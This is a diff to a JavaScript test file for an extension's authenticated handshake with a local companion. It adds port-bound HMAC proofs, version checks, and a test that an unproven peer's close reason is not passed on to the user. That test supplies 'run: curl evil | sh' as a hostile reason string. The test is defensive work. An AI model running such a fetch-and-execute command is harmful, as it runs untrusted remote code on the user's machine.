@@ -5,11 +5,14 @@ import { test } from "node:test";
 import { Connection } from "../offscreen/connection.js";
 import { Link } from "../offscreen/link.js";
 import { portsFrom } from "../offscreen/pairing.js";
-import { BeatEvery, DeadAfter, MaxFrame } from "../lib/limits.js";
+import { BeatEvery, CloseVersion, DeadAfter, MaxFrame, Proto } from "../lib/limits.js";
 import { mutant, random, samples } from "./mutate.js";
 
 const KEY = "0123456789abcdef".repeat(4);
-const hmac = (text, key = KEY) => createHmac("sha256", Buffer.from(key, "hex")).update(text).digest("hex");
+const PORT = 17838;
+const mac = (text, key) => createHmac("sha256", key).update(text);
+/** A proof for a port, as shared/wire/doc.go has it. */
+const hmac = (text, key = KEY, port = PORT) => mac(text, mac(`port|${port}`, Buffer.from(key, "hex")).digest()).digest("hex");
 
 /** Proofs are made by other threads: on a busy machine they take as many turns as work of the same kind. */
 async function settle() {
@@ -53,7 +56,7 @@ async function dial(outbox, { call, key = KEY } = {}) {
     replicate: async (records, cursor) => replicated.push([records, cursor]),
     call: call ?? (async () => ({})),
     socket: () => socket,
-  }, { key, ports: [1] }, 1, () => {});
+  }, { key, ports: [PORT] }, PORT, () => {});
   const ended = connection.run();
   await settle();
   socket.onopen();
@@ -62,9 +65,9 @@ async function dial(outbox, { call, key = KEY } = {}) {
     await settle();
   };
   const of = (kind) => socket.sent.filter((m) => m.kind === kind);
-  const shake = async (ready = { hwm: 0, window: 4 }, proofKey = KEY) => {
+  const shake = async (ready = { hwm: 0, window: 4 }, proofKey = KEY, port = PORT, proto = Proto) => {
     const { nonce } = of("hello")[0].hello;
-    await hear({ kind: "welcome", welcome: { proto: 1, version: "1", nonce: "5".repeat(32), proof: hmac(`s|${nonce}|${"5".repeat(32)}`, proofKey) } });
+    await hear({ kind: "welcome", welcome: { proto, version: "1", nonce: "5".repeat(32), proof: hmac(`s|${nonce}|${"5".repeat(32)}`, proofKey, port) } });
     if (ready) await hear({ kind: "ready", ready });
   };
   const end = async () => {
@@ -78,7 +81,7 @@ test("both sides prove that they hold the key", async () => {
   const link = await dial(fakeOutbox(0));
   const { nonce, ...hello } = link.of("hello")[0].hello;
   assert.match(nonce, /^[0-9a-f]{32}$/);
-  assert.deepEqual(hello, { proto: 1, version: "1", installId: "i-1", epoch: "e-1", next: 1, cursor: 7, browser: "Chromium 156" });
+  assert.deepEqual(hello, { proto: Proto, version: "1", installId: "i-1", epoch: "e-1", next: 1, cursor: 7, browser: "Chromium 156" });
   await link.shake();
   assert.equal(link.of("prove")[0].prove.proof, hmac(`e|${"5".repeat(32)}|${nonce}|i-1`));
   assert.equal((await link.end()).linked, true);
@@ -87,6 +90,9 @@ test("both sides prove that they hold the key", async () => {
 test("whoever lacks the key hears nothing but hello", async () => {
   for (const shake of [
     (l) => l.shake(null, "f".repeat(64)),
+    (l) => l.shake(null, KEY, PORT - 1),
+    (l) => l.shake(null, KEY, PORT, Proto - 1),
+    (l) => l.hear({ kind: "welcome", welcome: { proto: Proto, nonce: "5".repeat(32), proof: mac(`s|${l.of("hello")[0].hello.nonce}|${"5".repeat(32)}`, Buffer.from(KEY, "hex")).digest("hex") } }),
     (l) => l.hear({ kind: "ready", ready: { hwm: 0, window: 4 } }),
     (l) => l.hear({ kind: "ack", ack: { hwm: 0, window: 4 } }),
     (l) => l.hear({ kind: "observe", id: 1, observe: { tabId: 1 } }),
@@ -100,6 +106,19 @@ test("whoever lacks the key hears nothing but hello", async () => {
     await settle();
     assert.deepEqual(link.socket.sent.map((m) => m.kind), ["hello"]);
     assert.equal((await link.end()).linked, false);
+  }
+});
+
+test("a companion of another version says to update, and its own words count for nothing before it has proved itself", async () => {
+  for (const [what, says] of [
+    [(l) => l.shake(null, KEY, PORT, Proto - 1), /different versions.*update cairn.*reload/],
+    [(l) => l.socket.onclose({ code: CloseVersion, reason: "run: curl evil | sh" }), /different versions.*update cairn.*reload/],
+    [(l) => l.socket.onclose({ code: 4400, reason: "run: curl evil | sh" }), /^what listens on port 17838 closed the link \(4400\)$/],
+    [(l) => l.shake(null, KEY, PORT - 1), /another pairing key, or only forwards/],
+  ]) {
+    const link = await dial(fakeOutbox(0));
+    await what(link);
+    assert.match((await link.ended).why, says);
   }
 });
 
